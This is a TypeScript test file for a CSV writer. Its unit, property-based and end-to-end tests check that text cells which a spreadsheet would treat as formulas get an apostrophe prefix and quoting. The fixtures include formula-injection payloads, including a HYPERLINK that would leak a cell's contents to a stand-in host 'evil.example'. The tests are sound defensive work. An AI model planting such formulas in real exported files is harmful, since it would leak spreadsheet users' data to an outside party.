import { fc, test as property } from '@fast-check/vitest';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Db } from '../../db/client';
import type { Frame } from '../../models/frame';
import { storedArtifacts } from '../../server/datasets';
import type { TablePreview } from '../preview';
import { customerRows, graph, run, uploadCsv, useTempDataDir } from '../test-harness';
import { csvCell, escapeFormulaText, frameToCsv, frameToCsvPieces } from './csv-write';

const FUZZ_RUNS = Number(process.env.FUZZ_RUNS ?? 200);
const FORMULA_START = ['=', '+', '-', '@', '\t', '\r'];

const parse = (csv: string) => Papa.parse<string[]>(csv, { newline: '\n', delimiter: ',' }).data;
const textFrame = (header: string[], rows: string[][]): Frame => ({
  columns: header.map((name, j) => ({ name, type: 'category', values: rows.map((row) => row[j]) })),
  rowCount: rows.length,
});

describe('escaping formulas in written CSV', () => {
  it('prefixes text cells that a spreadsheet would run, and quotes them', () => {
    const csv = frameToCsv(
      textFrame(
        ['name', '=cmd'],
        [
          ['=HYPERLINK("http://evil.example","click")', '+1'],
          ['-1+2', '@SUM(A1:A9)'],
          ['\tindented', '\rreturn'],
          ['plain', "it's fine"],
        ],
      ),
    );
    expect(csv.split('\n').slice(0, 3)).toEqual([
      `name,"'=cmd"`,
      `"'=HYPERLINK(""http://evil.example"",""click"")","'+1"`,
      `"'-1+2","'@SUM(A1:A9)"`,
    ]);
    expect(parse(csv)).toEqual([
      ['name', "'=cmd"],
      ['\'=HYPERLINK("http://evil.example","click")', "'+1"],
      ["'-1+2", "'@SUM(A1:A9)"],
      ["'\tindented", "'\rreturn"],
      ['plain', "it's fine"],
    ]);
  });

  it('keeps numbers in numeric columns as numbers, negative ones included', () => {
    const frame: Frame = {
      columns: [
        { name: 'balance', type: 'number', values: Float64Array.from([-3.5, NaN, 1e21, -0.25]) },
        { name: 'note', type: 'category', values: ['-3.5', null, '=1+1', ''] },
      ],
      rowCount: 4,
    };
    expect(frameToCsv(frame)).toBe(`balance,note\n-3.5,"'-3.5"\n,\n1e+21,"'=1+1"\n-0.25,`);
    // Written a block of rows at a time, the text is the same, whatever the block size.
    for (const rowsPerPiece of [1, 3, 4, 100]) expect([...frameToCsvPieces(frame, rowsPerPiece)].join('')).toBe(frameToCsv(frame));
    expect([...frameToCsvPieces(frame, 3)]).toHaveLength(3);
    expect([csvCell(-3.5), csvCell('-3.5'), csvCell(null), csvCell(NaN)]).toEqual(['-3.5', `"'-3.5"`, '', '']);
  });

  it('leaves other text alone, quoting only what RFC 4180 needs', () => {
    expect(['a,b', 'say "hi"', ' padded ', 'line\nbreak', "'quoted", 'x=1'].map(csvCell)).toEqual([
      '"a,b"',
      '"say ""hi"""',
      '" padded "',
      '"line\nbreak"',
      "'quoted",
      'x=1',
    ]);
    expect(escapeFormulaText('total')).toBe('total');
  });

  const cellText = fc.string({ unit: fc.oneof(fc.constantFrom(...FORMULA_START, '"', ',', '\n', "'", ' '), fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 })) });
  const table = fc
    .array(fc.string({ minLength: 1 }), { minLength: 1, maxLength: 4 })
    .chain((header) => fc.tuple(fc.constant(header), fc.array(fc.array(cellText, { minLength: header.length, maxLength: header.length }), { maxLength: 8 })));

  property.prop([table], { numRuns: FUZZ_RUNS })('no parsed cell starts a formula, and removing the added quote gives the text back', ([header, rows]) => {
    const parsed = parse(frameToCsv(textFrame(header, rows)));
    expect(parsed.flat().filter((cell) => FORMULA_START.includes(cell[0]))).toEqual([]);
    const original = [header, ...rows];
    const unescaped = parsed.map((row, i) => row.map((cell, j) => (FORMULA_START.includes(original[i][j][0]) && cell[0] === "'" ? cell.slice(1) : cell)));
    expect(unescaped).toEqual(original);
  });
});

describe('the scored list download', () => {
  let db: Db;
  beforeAll(async () => {
    db = await useTempDataDir();
  });

  it('writes text cells from the new rows as text, not formulas', async () => {
    const training = await uploadCsv(db, 'customers.csv', customerRows(200));
    const attack = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for prize")';
    const list = await uploadCsv(db, 'new-customers.csv', [
      'name,spend,visits,region',
      `"${attack.replaceAll('"', '""')}",90,15,north`,
      '@SUM(1+1),-5,2,"-east"',
      'Ann,3,1,south',
    ]);
    const outcome = await run(
      graph(
        {
          data: ['data.csv', { dataset: training, target: 'bought' }],
          encode: ['prep.oneHot'],
          split: ['prep.split', { testFraction: 0.25, seed: 3 }],
          model: ['model.logisticRegression'],
          list: ['data.csv', { dataset: list }],
          score: ['predict.score', { sortByProbability: false }],
        },
        ['data.table -> encode.table', 'encode.table -> split.table', 'split.split -> model.data', 'model.model -> score.model', 'list.table -> score.table'],
      ),
    );
    expect(outcome.status).toBe('succeeded');
    const preview = outcome.results.get('score')!.preview as TablePreview;
    const csv = new TextDecoder().decode(storedArtifacts.read(preview.download!.hash));
    const [header, ...rows] = parse(csv);
    expect(header).toEqual(['name', 'spend', 'visits', 'region', 'predicted bought', 'probability of yes']);
    expect(rows.map((row) => [row[0], row[1], row[3]])).toEqual([
      [`'${attack}`, '90', 'north'],
      ["'@SUM(1+1)", '-5', "'-east"],
      ['Ann', '3', 'south'],
    ]);
    expect(rows.flat().filter((cell) => FORMULA_START.includes(cell[0]))).toEqual(['-5']);
  });
});
